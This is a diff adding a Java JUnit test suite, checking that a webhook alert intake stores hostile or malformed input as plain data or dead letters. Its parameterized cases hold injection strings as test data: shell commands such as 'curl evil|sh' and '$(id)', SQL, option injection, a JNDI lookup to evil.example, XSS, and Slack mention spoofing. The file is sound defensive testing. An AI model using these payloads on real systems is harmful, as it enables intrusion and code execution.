@@ -1,0 +1,467 @@
+package io.firebreak.webhook;
+
+import static io.firebreak.webhook.HookWorld.bearer;
+import static io.firebreak.webhook.HookWorld.bytes;
+import static io.firebreak.webhook.HookWorld.group;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.firebreak.alert.Flag;
+import io.firebreak.alert.Severity;
+import io.firebreak.testing.Payloads;
+import io.firebreak.testing.Stores;
+import io.firebreak.webhook.HookWorld.Answer;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.util.Arrays;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.stream.Collectors;
+import java.util.stream.IntStream;
+import java.util.stream.Stream;
+import java.util.zip.GZIPOutputStream;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Tag;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.EnumSource;
+import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+@DisplayName("What an authentic sender sends is kept, whatever it is")
+class HookBadInputTest {
+  private static final byte[] BODY = Payloads.body("alertmanager/05-firing-single.json");
+  private static final int MEBIBYTE = 1 << 20;
+
+  private final HookWorld world = new HookWorld();
+
+  @AfterEach
+  void close() {
+    world.close();
+  }
+
+  /** The answer is 202, the bytes are kept as they came, and people can see why. */
+  private void deadLetter(Answer answer, String reason, byte[] sent) {
+    assertThat(answer.status()).isEqualTo(202);
+    assertThat(answer.body().path("dead_letter").asText()).isEqualTo(reason);
+    assertThat(answer.body().path("duplicate").asBoolean()).isFalse();
+    var id = answer.body().path("delivery_id").asText();
+    var kept = world.deadLetters.show("default", id).orElseThrow();
+    assertThat(kept.letter().reason()).isEqualToIgnoringCase(reason);
+    assertThat(kept.raw().body()).isEqualTo(sent);
+    assertThat(world.rows("SELECT fingerprint FROM episode")).isEmpty();
+    assertThat(world.accepted).isEmpty();
+  }
+
+  private void deadLetter(String body, String reason) {
+    deadLetter(world.post(body), reason, bytes(body));
+  }
+
+  private void accepted(Answer answer) {
+    assertThat(answer.status()).isEqualTo(202);
+    assertThat(answer.body().at("/alerts/0/disposition").asText()).isEqualTo("new");
+    assertThat(answer.body().has("dead_letter")).isFalse();
+  }
+
+  private void refusedAsTooLarge(Answer answer) {
+    assertThat(answer.status()).isEqualTo(413);
+    assertThat(answer.code()).isEqualTo("PAYLOAD_TOO_LARGE");
+    assertThat(world.deliveries()).isZero();
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "text/plain",
+        "application/xml",
+        "application/json",
+        "nonsense",
+        "APPLICATION/JSON"
+      })
+  @Tag("B09")
+  @DisplayName("B09 the content type means nothing")
+  void b09(String type) {
+    accepted(world.post("alertmanager", with("Content-Type", type), BODY));
+    assertThat(world.deliveries()).isEqualTo(1);
+  }
+
+  @Test
+  @Tag("B09")
+  @DisplayName("B09 a multipart body is kept as it is and touches no file")
+  void b09Multipart() {
+    var body =
+        """
+        --x\r
+        Content-Disposition: form-data; name="file"; filename="a"; filepath="/etc/passwd"\r
+        \r
+        a\r
+        --x--\r
+        """;
+    var answer =
+        world.post(
+            "alertmanager", with("Content-Type", "multipart/form-data; boundary=x"), bytes(body));
+    deadLetter(answer, "INVALID_JSON", bytes(body));
+  }
+
+  private static Map<String, String> with(String header, String value) {
+    var headers = new HashMap<>(bearer());
+    headers.put(header, value);
+    return headers;
+  }
+
+  @Test
+  @Tag("B10")
+  @DisplayName("B10 a body of one byte over 1 MiB is refused, one of 1 MiB is kept")
+  void b10() {
+    refusedAsTooLarge(world.post(new byte[MEBIBYTE + 1]));
+    var largest = new byte[MEBIBYTE];
+    Arrays.fill(largest, (byte) ' ');
+    deadLetter(world.post(largest), "INVALID_JSON", largest);
+  }
+
+  private static byte[] gzip(byte[] plain) {
+    var bytes = new ByteArrayOutputStream();
+    try (var gzip = new GZIPOutputStream(bytes)) {
+      gzip.write(plain);
+    } catch (IOException e) {
+      throw new AssertionError(e);
+    }
+    return bytes.toByteArray();
+  }
+
+  private Answer encoded(String encoding, byte[] body) {
+    return world.post("alertmanager", with("Content-Encoding", encoding), body);
+  }
+
+  @Test
+  @Tag("B11")
+  @DisplayName("B11 gzip is undone, and the plain body is the same delivery")
+  void b11Plain() {
+    accepted(encoded("gzip", gzip(BODY)));
+    assertThat(world.post(BODY).body().path("duplicate").asBoolean()).isTrue();
+    assertThat(world.rows("SELECT headers FROM delivery")).containsExactly("{}");
+  }
+
+  @Test
+  @Tag("B11")
+  @DisplayName("B11 a gzip bomb is refused at the limit")
+  void b11Bomb() {
+    refusedAsTooLarge(encoded("gzip", gzip(new byte[64 * MEBIBYTE])));
+    refusedAsTooLarge(encoded("gzip", gzip(new byte[MEBIBYTE + 1])));
+  }
+
+  @Test
+  @Tag("B11")
+  @DisplayName("B11 two, unknown or broken encodings are dead letters with the bytes as sent")
+  void b11Unsupported() {
+    var twice = gzip(gzip(BODY));
+    deadLetter(encoded("gzip, gzip", twice), "UNSUPPORTED_ENCODING", twice);
+    deadLetter(encoded("br", bytes("br")), "UNSUPPORTED_ENCODING", bytes("br"));
+    var cut = Arrays.copyOf(gzip(BODY), 60);
+    deadLetter(encoded("gzip", cut), "UNSUPPORTED_ENCODING", cut);
+    assertThat(world.deadLetterReasons()).hasSize(3).containsOnly("unsupported_encoding");
+  }
+
+  @Test
+  @Tag("B12")
+  @DisplayName("B12 JSON that is too deep, too long or too much is a dead letter")
+  void b12() {
+    deadLetter("[".repeat(100_000), "JSON_LIMITS");
+    deadLetter("[".repeat(33) + "]".repeat(33), "JSON_LIMITS");
+    deadLetter("{\"n\":" + "9".repeat(1_000_000) + "}", "JSON_LIMITS");
+    deadLetter("{\"n\":1e999999999}", "JSON_LIMITS");
+    deadLetter("{\"s\":\"" + "x".repeat(70_000) + "\"}", "JSON_LIMITS");
+    var keys =
+        IntStream.range(0, 60_000)
+            .mapToObj(i -> "\"%d\":0".formatted(i))
+            .collect(Collectors.joining(","));
+    deadLetter("{" + keys + "}", "JSON_LIMITS");
+  }
+
+  @Test
+  @Tag("B13")
+  @DisplayName("B13 the same key twice is a dead letter")
+  void b13() {
+    deadLetter("{\"status\":\"resolved\",\"status\":\"firing\"}", "JSON_DUPLICATE_KEY");
+    deadLetter(group("{\"alertname\":\"a\",\"alertname\":\"b\"}", ""), "JSON_DUPLICATE_KEY");
+  }
+
+  static Stream<byte[]> notJson() {
+    var whole = new String(BODY, StandardCharsets.UTF_8);
+    return Stream.of(
+        bytes(""),
+        bytes(" "),
+        bytes(whole.substring(0, whole.length() / 2)),
+        bytes(whole + "x"),
+        bytes(whole + whole),
+        bytes("{\"n\":NaN}"),
+        bytes("{/* why */}"),
+        bytes("{'a':1}"),
+        bytes("\uFEFF" + whole),
+        whole.getBytes(StandardCharsets.UTF_16),
+        new byte[] {'"', (byte) 0xc3, '"'},
+        new byte[] {'"', (byte) 0xed, (byte) 0xa0, (byte) 0x80, '"'},
+        bytes("{\"a\":\"\\ud800\"}"));
+  }
+
+  @ParameterizedTest(name = "[{index}]")
+  @MethodSource("notJson")
+  @Tag("B14")
+  @DisplayName("B14 what is not strict JSON is a dead letter")
+  void b14(byte[] body) {
+    deadLetter(world.post(body), "INVALID_JSON", body);
+  }
+
+  @Test
+  @Tag("B15")
+  @DisplayName("B15 an empty list asks for nothing; no list is a dead letter")
+  void b15() {
+    var empty = world.post("{\"version\":\"4\",\"alerts\":[]}");
+    assertThat(empty.status()).isEqualTo(202);
+    assertThat(empty.body().path("ignored").asText()).isEqualTo("no_alerts");
+    assertThat(empty.body().path("alerts")).isEmpty();
+    assertThat(world.deliveries()).isEqualTo(1);
+
+    deadLetter("{\"version\":\"4\",\"alerts\":null}", "UNKNOWN_SHAPE");
+    deadLetter("{\"version\":\"4\",\"alerts\":{}}", "UNKNOWN_SHAPE");
+    deadLetter("{\"version\":\"4\"}", "UNKNOWN_SHAPE");
+    deadLetter("{\"version\":\"4\",\"alerts\":[null]}", "UNKNOWN_SHAPE");
+    deadLetter("null", "UNKNOWN_SHAPE");
+    deadLetter("7", "UNKNOWN_SHAPE");
+  }
+
+  @Test
+  @Tag("B16")
+  @DisplayName("B16 an unknown version or fields of other types are dead letters")
+  void b16() {
+    deadLetter("{\"version\":\"5\",\"alerts\":[]}", "UNKNOWN_VERSION");
+    deadLetter("{\"version\":4,\"alerts\":[]}", "UNKNOWN_SHAPE");
+    deadLetter(group("[]", ""), "UNKNOWN_SHAPE");
+    deadLetter(group("{\"a\":1}", ""), "UNKNOWN_SHAPE");
+    deadLetter(group("{\"a\":\"b\"}", ",\"endsAt\":12"), "UNKNOWN_SHAPE");
+    deadLetter(group("{\"a\":\"b\"}", ",\"endsAt\":\"yesterday\""), "UNKNOWN_SHAPE");
+    deadLetter("[]", "UNKNOWN_SHAPE");
+  }
+
+  @Test
+  @Tag("B16")
+  @DisplayName("B16 one alert that cannot be read leaves the others alone")
+  void b16OneOfTwo() {
+    var body =
+        """
+        {"version":"4","alerts":[
+          {"status":"odd","labels":{"a":"b"}},
+          {"status":"firing","labels":{"a":"c"},"startsAt":"2026-11-22T13:20:00Z"}]}\
+        """;
+    var answer = world.post(body);
+
+    assertThat(answer.status()).isEqualTo(202);
+    assertThat(answer.body().path("dead_letter").asText()).isEqualTo("UNKNOWN_SHAPE");
+    assertThat(answer.body().at("/alerts/0/disposition").asText()).isEqualTo("new");
+    assertThat(answer.body().at("/alerts/1/disposition").asText()).isEqualTo("dead_letter");
+    assertThat(world.rows("SELECT detail FROM dead_letter"))
+        .containsExactly("1 of 2 alerts not read; alert 0: status is an unknown word");
+    assertThat(world.accepted).hasSize(1);
+  }
+
+  /** A label's value comes out of the store as it came in. */
+  private void keptAsData(String jsonValue, String value) {
+    var answer = world.post(group("{\"alertname\":\"a\",\"pod\":\"%s\"}".formatted(jsonValue), ""));
+    accepted(answer);
+    var id = answer.body().path("delivery_id").asText();
+    var stored = world.intake.delivery("default", id).orElseThrow();
+    assertThat(stored.alerts().getFirst().labels().get("pod")).isEqualTo(value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {"x; curl evil|sh", "`id`", "$(id)", "${IFS}", "'", "&&", "%0a", "x' OR 1=1 --"})
+  @Tag("B17")
+  @DisplayName("B17 what a shell would run is data")
+  void b17(String value) {
+    keptAsData(value, value);
+  }
+
+  @Test
+  @Tag("B17")
+  @DisplayName("B17 line breaks, quotes and NUL are data too")
+  void b17Escaped() {
+    keptAsData("a\\nb", "a\nb");
+    keptAsData("a\\\"b", "a\"b");
+    keptAsData("a\\u0000b", "a\0b");
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"--kubeconfig=/tmp/x", "-oProxyCommand=id", "@/etc/passwd", "-"})
+  @Tag("B18")
+  @DisplayName("B18 what looks like an option is data")
+  void b18(String value) {
+    keptAsData(value, value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "{{7*7}}",
+        "${7*7}",
+        "#{7*7}",
+        "{%print 7*7%}",
+        "${jndi:ldap://evil.example/a}",
+        "{str:eval(7*7)}",
+        "${{ 7*7 }}"
+      })
+  @Tag("B19")
+  @DisplayName("B19 what looks like a template is never evaluated")
+  void b19(String value) {
+    keptAsData(value, value);
+  }
+
+  @Test
+  @Tag("B20")
+  @DisplayName("B20 only http and https become links; markup stays text")
+  void b20() {
+    var more =
+        ",\"annotations\":{\"summary\":\"<script>alert(1)</script>\","
+            + "\"runbook_url\":\"javascript:alert(1)\",\"dashboard_url\":\"https://grafana.example/d\"},"
+            + "\"generatorURL\":\"data:text/html,<script>\"";
+    accepted(world.post(group("{\"alertname\":\"a\"}", more)));
+
+    var alert = world.accepted.getFirst().alerts().getFirst();
+    assertThat(alert.links()).containsOnly(Map.entry("dashboard", "https://grafana.example/d"));
+    assertThat(alert.annotations())
+        .containsEntry("summary", "<script>alert(1)</script>")
+        .containsEntry("runbook_url", "javascript:alert(1)");
+  }
+
+  @Test
+  @Tag("B21")
+  @DisplayName("B21 what Slack would take for a mention is kept as text")
+  void b21() {
+    var text = "<!channel> <!here> <@U123> <!subteam^S1> <https://evil|Approve> ``` *_~";
+    accepted(
+        world.post(
+            group("{\"alertname\":\"a\"}", ",\"annotations\":{\"summary\":\"" + text + "\"}")));
+    assertThat(world.accepted.getFirst().alerts().getFirst().annotations())
+        .containsEntry("summary", text);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"a\\u202eb", "a\\u200bb", "\\u001b[2J", "a\\u2066b"})
+  @Tag("B22")
+  @DisplayName("B22 hidden characters are kept and flagged")
+  void b22(String value) {
+    accepted(world.post(group("{\"alertname\":\"a\",\"pod\":\"" + value + "\"}", "")));
+    assertThat(world.accepted.getFirst().alerts().getFirst().has(Flag.HIDDEN_CHARACTERS)).isTrue();
+  }
+
+  @Test
+  @Tag("B22")
+  @DisplayName("B22 one line of a megabyte is a dead letter")
+  void b22Long() {
+    deadLetter(group("{\"a\":\"" + "x".repeat(1_000_000) + "\"}", ""), "JSON_LIMITS");
+    deadLetter(group("{\"a\":\"" + "x".repeat(1_025) + "\"}", ""), "LABEL_LIMITS");
+  }
+
+  @Test
+  @Tag("B23")
+  @DisplayName("B23 a forged log line in a label is data in one row")
+  void b23() {
+    keptAsData(
+        "\\r\\n{\\\"level\\\":\\\"INFO\\\",\\\"msg\\\":\\\"approved by cto\\\"}",
+        "\r\n{\"level\":\"INFO\",\"msg\":\"approved by cto\"}");
+    assertThat(world.rows("SELECT alerts FROM delivery")).noneMatch(json -> json.contains("\n"));
+  }
+
+  @Test
+  @Tag("B24")
+  @DisplayName("B24 odd label names are data, forbidden or too many ones dead letters")
+  void b24() {
+    accepted(world.post(group("{\"__proto__\":\"x\",\"constructor\":\"y\"}", "")));
+    var alert = world.accepted.getFirst().alerts().getFirst();
+    assertThat(alert.labels().map()).containsKeys("__proto__", "constructor");
+    assertThat(alert.name()).isEqualTo("unnamed");
+    assertThat(alert.has(Flag.NAME_MISSING)).isTrue();
+  }
+
+  @Test
+  @Tag("B24")
+  @DisplayName("B24 forbidden, too many or missing labels are dead letters")
+  void b24Limits() {
+    deadLetter(group("{\"a b\":\"x\"}", ""), "LABEL_LIMITS");
+    deadLetter(group("{\"9\":\"x\"}", ""), "LABEL_LIMITS");
+    deadLetter(group("{}", ""), "UNKNOWN_SHAPE");
+    var many =
+        IntStream.range(0, 10_000)
+            .mapToObj(i -> "\"l%d\":\"x\"".formatted(i))
+            .collect(Collectors.joining(",", "{", "}"));
+    deadLetter(group(many, ""), "LABEL_LIMITS");
+    var alerts = "{\"status\":\"firing\",\"labels\":{\"a\":\"b\"}},".repeat(1_001);
+    deadLetter(
+        "{\"version\":\"4\",\"alerts\":[" + alerts.substring(0, alerts.length() - 1) + "]}",
+        "TOO_MANY_ALERTS");
+  }
+
+  @Test
+  @Tag("B25")
+  @DisplayName("B25 impossible times are mended and flagged")
+  void b25() {
+    var times =
+        Map.of(
+            "0001-01-01T00:00:00Z", Flag.STARTS_AT_MISSING,
+            "9999-12-31T23:59:59Z", Flag.STARTS_AT_CLAMPED,
+            "1969-01-01T00:00:00Z", Flag.STARTS_AT_CLAMPED,
+            "2026-11-22T13:19:60Z", Flag.LEAP_SECOND);
+    times.forEach((time, flag) -> {
+      world.accepted.clear();
+      accepted(world.post(starting(time, "")));
+      assertThat(world.accepted.getFirst().alerts().getFirst().has(flag)).as(time).isTrue();
+    });
+    world.accepted.clear();
+    accepted(world.post(starting("2026-11-23T03:20:00+14:00", "")));
+    assertThat(world.accepted.getFirst().alerts().getFirst().startsAt())
+        .isEqualTo("2026-11-22T13:20:00Z");
+  }
+
+  @Test
+  @Tag("B25")
+  @DisplayName("B25 an end before the start gives no negative time")
+  void b25EndsFirst() {
+    world.post(starting("2026-11-22T13:20:00Z", ""));
+    var answer =
+        world.post(
+            starting("2026-11-22T13:20:00Z", ",\"endsAt\":\"2026-11-22T12:00:00Z\"")
+                .replace("\"firing\"", "\"resolved\""));
+    assertThat(answer.body().at("/alerts/0/disposition").asText()).isEqualTo("resolved");
+    var alert = world.accepted.getLast().alerts().getFirst();
+    assertThat(alert.has(Flag.ENDS_AT_CLAMPED)).isTrue();
+    assertThat(alert.endsAt()).isAfterOrEqualTo(alert.startsAt());
+  }
+
+  private static String starting(String time, String more) {
+    return """
+    {"version":"4","alerts":[
+      {"status":"firing","labels":{"id":"%s"},"startsAt":"%s"%s}]}\
+    """
+        .formatted(time, time, more);
+  }
+
+  @ParameterizedTest
+  @EnumSource
+  @DisplayName("Both stores keep hostile text and dead letters alike")
+  void bothStores(Stores stores) {
+    try (var other = new HookWorld(stores)) {
+      var answer = other.post(Payloads.body("alertmanager/10-hostile-strings.json"));
+      assertThat(answer.body().at("/alerts/0/disposition").asText()).isEqualTo("new");
+      assertThat(other.intake.unrouted(5)).isEqualTo(other.accepted);
+      assertThat(other.accepted.getFirst().alerts().getFirst().severity())
+          .isIn((Object[]) Severity.values());
+      var bad = other.post("{\"a\":\"\\u0000\"}");
+      assertThat(bad.body().path("dead_letter").asText()).isEqualTo("UNKNOWN_SHAPE");
+      var nul = other.post(group("{\"alertname\":\"a\",\"pod\":\"a\\u0000b\"}", ""));
+      assertThat(nul.body().at("/alerts/0/disposition").asText()).isEqualTo("new");
+      assertThat(List.of(answer.status(), bad.status(), nul.status())).containsOnly(202);
+    }
+  }
+}
